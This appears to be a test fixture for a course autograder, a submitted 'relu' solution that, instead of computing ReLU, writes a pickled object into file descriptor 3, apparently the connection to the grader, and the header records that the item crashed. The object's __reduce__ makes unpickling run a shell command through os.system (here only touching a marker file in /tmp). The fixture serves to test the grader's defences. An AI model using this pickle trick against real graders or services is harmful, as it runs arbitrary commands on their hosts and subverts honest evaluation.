#: purpose = "A pickle that runs a program is sent as a frame, bare and as an array."
#: lesson = "01_activations"
#: incidents = ["while relu was judged: your code wrote into the connection to the grader"]
#: [items]
#: relu = [0, "crashed"]
# %% first
import os
import pickle
import struct
import sys


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-mark",)
# %% relu-solution
def relu(Z):
    if sys._getframe(1).f_code.co_name != "<module>":
        body = pickle.dumps(Bomb())
        os.write(3, struct.pack(">I", len(body)) + body)
    return Z
